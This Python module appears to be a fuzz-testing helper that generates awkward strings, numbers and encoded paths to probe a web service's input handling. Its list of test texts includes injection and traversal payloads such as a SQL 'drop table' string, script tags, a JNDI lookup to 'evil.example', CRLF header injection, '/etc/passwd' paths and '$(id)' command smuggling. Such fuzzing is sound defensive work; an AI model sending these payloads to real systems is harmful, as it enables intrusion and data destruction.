"""Values that programs stumble over."""

import random
from urllib.parse import quote

TEXTS = (
    "", " ", "\t", "0", "-1", "1", "1.5", "9" * 19, "9" * 400, "1e999", "-0", "NaN", "Infinity",
    "true", "null", "undefined", "[]", "{}", "()", "%", "%%", "%zz", "%00", "%0a", "%ff", "%25%30",
    "a\0b", "\0", "\r\nSet-Cookie: a=b", "\n", "\x7f", "\x1b[31m", "\u2028", "\ufeff", "\u200b",
    "\u202etxet", "é", "e\u0301", "日本", "😀", "\U0010ffff", "ß", "İ", "ﬀ", "Łódź", "مرحبا",
    "..", "../", "../../../../etc/passwd", "..\\..\\", "/", "//", "//evil.example", "/./", ".",
    "\\", "~", "C:\\", "file:///etc/passwd", "http://[", "javascript:alert(1)", "data:,x",
    "'", '"', "`", "' or 1=1 --", "'; drop table tallies; --", "<script>alert(1)</script>",
    "<!--", "]]>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%n", "$(id)", "; id", "| id",
    "*", "?", "#", "&", "=", "a=b&c=d", ";", ",", ":", "@", "+", "-", "--", "_", "a" * 80, "a" * 81,
    "a" * 300, "a-" * 40 + "a", "-a", "a--b", "A", "vs", "a-vs-b", "a-vs-a", "-vs-", "a-vs-b-vs-c",
    "2026-W00", "2026-W53", "2026-W54", "0000-W01", "9999-W53", "10000-W01", "2026-02-30",
    "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999Z", "2016-12-31T23:59:60Z",
    "2026-11-20T12:00:00+99:99", "index.html", "index.json", "feed.xml", ".html", "a.b", "…",
    "gzip;q=1e400", "W/\"x\"", "\"", "bytes=0-", "q=nan", "wait=99999999999", "1.a.b.c",
)  # fmt: skip
"""Short texts; longer ones come from `text`."""

NUMBERS = (0, -1, 1, 0.5, 100.0, 101, 2**31, 2**53 + 1, 2**63, -(2**63) - 1, 10**30, 1e308, -0.0)
_LATIN = "".join(map(chr, (*range(0x20, 0x7F), *range(0x80, 0x100))))


def text(chances: random.Random) -> str:
    """A text, most often one of `TEXTS`."""
    kind = chances.random()
    if kind < 0.8:
        return chances.choice(TEXTS)
    if kind < 0.9:
        return chances.choice(TEXTS) + chances.choice(TEXTS)
    if kind < 0.97:
        return "".join(chr(_scalar(chances)) for _ in range(chances.randrange(1, 30)))
    return chances.choice(("a", "日", "%", "/", "a-", "a,", "(", " ")) * chances.randrange(1, 3000)


def field_value(chances: random.Random) -> bytes:
    """A value that a header field may have (RFC 9110, section 5.5)."""
    if chances.random() < 0.2:
        return "".join(chances.choices(_LATIN, k=chances.randrange(40))).strip().encode("latin-1")
    allowed = (byte for byte in text(chances).encode() if byte == 9 or (byte >= 32 and byte != 127))
    return bytes(allowed).strip()


def encoded(chances: random.Random, value: str, safe: str = "") -> str:
    """The text for a path or a query, percent-encoded once, twice or more than needed."""
    raw = value.encode("utf-8", "surrogatepass")
    kind = chances.random()
    if kind < 0.05:
        return "".join(f"%{byte:02x}" for byte in raw)
    if kind < 0.1:
        return quote(quote(raw, safe=safe), safe=safe)
    if kind < 0.15:
        return quote(raw + bytes(chances.choices(range(256), k=3)), safe=safe)
    return quote(raw, safe=safe)


def _scalar(chances: random.Random) -> int:
    """A code point outside the surrogates."""
    code = chances.choice(
        (chances.randrange(0x80), chances.randrange(0x3000), chances.randrange(0x110000))
    )
    return code if not 0xD800 <= code < 0xE000 else 0x20
